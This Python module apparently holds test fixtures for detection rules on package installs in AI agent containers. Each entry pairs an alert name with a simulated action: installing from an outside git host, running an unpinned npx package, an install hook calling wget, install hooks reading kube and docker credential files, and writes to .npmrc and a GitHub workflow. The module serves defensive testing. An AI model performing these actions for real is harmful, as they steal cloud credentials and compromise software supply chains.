"""Packages and their hooks: rules/agent/packages.yaml."""

from __future__ import annotations

from support.attacks.attack import Attack

__all__ = ["ATTACKS"]

ATTACKS = (
    Attack(
        "foreign-package",
        'run("/opt/bin/pip", "install", "git+https://git.example/x")',
        {
            "Package installed from outside the registry": "/bin/true",
            "Package installed at run time in an AI container": "/bin/true",
        },
        "pip",
    ),
    Attack(
        "unpinned",
        'run("/opt/bin/npx", "-y", "postmark-mcp")',
        {"Unpinned package run straight from a registry": "/bin/true"},
        "npx",
    ),
    Attack(
        "hook-download",
        "install(\"subprocess.run(['/bin/wget', '-q', 'http://127.0.0.1:1/x'])\")",
        {"Network tool started by a package install": "/bin/wget"},
        "wget",
    ),
    Attack(
        "hook-secret",
        "install(\"open('/root/.kube/config').read()\")",
        {
            "Secret read during a package install": "/root/.kube/config",
            "Cloud credentials read in a container": "/root/.kube/config",
        },
        "node",
    ),
    Attack(
        "inline-secret",
        'run("/usr/bin/python3", "-c", "open(\'/root/.docker/config.json\').read()")',
        {
            "Secret read by code from the command line": "/root/.docker/config.json",
            "Cloud credentials read in a container": "/root/.docker/config.json",
        },
    ),
    Attack(
        "package-source",
        'touch("/root/.npmrc")',
        {"Package source changed in an AI container": "/root/.npmrc"},
    ),
    Attack(
        "workflow",
        'touch("/srv/app/.github/workflows/x.yml")',
        {"Hook or workflow of a repository written by another program": ".*/x.yml"},
    ),
)
